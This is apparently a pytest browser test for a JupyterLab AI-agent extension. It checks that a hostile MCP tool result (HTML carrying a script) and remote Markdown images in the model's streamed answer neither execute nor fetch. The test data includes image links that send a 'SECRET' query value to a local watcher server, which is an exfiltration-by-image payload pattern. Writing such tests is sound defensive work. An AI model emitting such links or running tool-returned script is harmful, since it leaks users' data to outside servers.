"""Nothing a tool or a model returns runs or fetches anything in JupyterLab: an MCP
tool's "image" that is HTML with a script, and remote Markdown images in the model's
answer, watched by a local HTTP server that must never be asked for anything, during
the run, after it, and in the reopened notebook. Screenshots: trust-01..03."""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from lab_harness import (
    LabServer,
    command,
    open_notebook,
    replay_setup,
    shot,
    wait_kernel_idle,
    write_notebook,
)

pytestmark = [pytest.mark.browser, pytest.mark.kernel, pytest.mark.slow]

HOSTILE = str(Path(__file__).resolve().parent.parent / "hostile_mcp_server.py")


class Watcher(ThreadingHTTPServer):
    """Records the path of every request it gets."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        watcher = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                watcher.seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


@pytest.fixture
def watcher() -> Iterator[Watcher]:
    server = Watcher()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _pwned(page: Any) -> Any:
    return page.evaluate("() => window.__hermes_pwned === undefined ? null : window.__hermes_pwned")


def test_a_hostile_mcp_result_and_remote_markdown_images_neither_run_nor_fetch(
    lab: LabServer, page: Any, watcher: Watcher
) -> None:
    leak = f"![chart]({watcher.url}leak.png?d=SECRET)"
    script = {
        "replies": [
            {
                "chunks": ["Here ", "is ", "a ", f"chart: {leak} ", "and ", "more ", "text."],
                "delay": 0.4,
                "tool_calls": [{"name": "h__snapshot", "arguments": {}}],
            },
            {"chunks": ["Done, ", f"see {leak.replace('leak.png', 'again.png')} ", "<img src=", f"'{watcher.url}raw.png'>"], "delay": 0.3},
        ],
        "title": "Hostile snapshot",
    }
    (lab.root / "trust.json").write_text(json.dumps(script))
    servers = {"h": {"command": sys.executable, "args": [HOSTILE], "policy": "allow", "env": {"HOSTILE_URL": watcher.url}}}
    write_notebook(
        lab.root / "trust.ipynb",
        [
            replay_setup("trust.json") + f"\n%config AgentMagics.mcp_servers = {json.dumps(servers)}",
            "%%agent\nTake a snapshot of the page.",
            "%agent history",
        ],
    )
    open_notebook(page, lab, "trust.ipynb")
    command(page, "notebook:run-all-cells")

    # Live: the streamed answer shows the image as a link with its URL; nothing loads.
    page.get_by_text("and more text").first.wait_for(timeout=90_000)
    page.wait_for_timeout(1500)  # time for an image to load
    shot(page, "trust-01-live")
    assert watcher.seen == [] and _pwned(page) is None
    assert "leak.png?d=SECRET" in page.locator(".hermes-nb-image-link").first.inner_text()

    page.get_by_text("Done, see").first.wait_for(timeout=120_000)
    wait_kernel_idle(page)
    page.locator(".jp-Cell:nth-child(3) .hermes-nb-history").first.wait_for(timeout=60_000)
    page.wait_for_timeout(3000)  # time for any image or script to load
    shot(page, "trust-02-done")
    assert watcher.seen == [] and _pwned(page) is None
    text = page.locator(".jp-Cell:nth-child(2) .jp-OutputArea").first.inner_text()
    assert "Here is a chart" in text and "Done, see" in text
    assert page.locator(".jp-OutputArea-output img").count() == 0
    assert page.locator("#hermes-pwned-html").count() == 0
    assert watcher.seen == [] and _pwned(page) is None

    # Saved, closed and reopened: the stored outputs and the saved-run view load nothing.
    command(page, "docmanager:save", wait=True)
    page.wait_for_timeout(1000)
    command(page, "application:close-all", wait=True)
    page.wait_for_timeout(1000)
    open_notebook(page, lab, "trust.ipynb")
    page.get_by_text("Done, see").first.wait_for(timeout=60_000)
    page.wait_for_timeout(6000)
    shot(page, "trust-03-reopened")
    assert page.locator(".hermes-nb-image-link").count() >= 1
    assert watcher.seen == [] and _pwned(page) is None
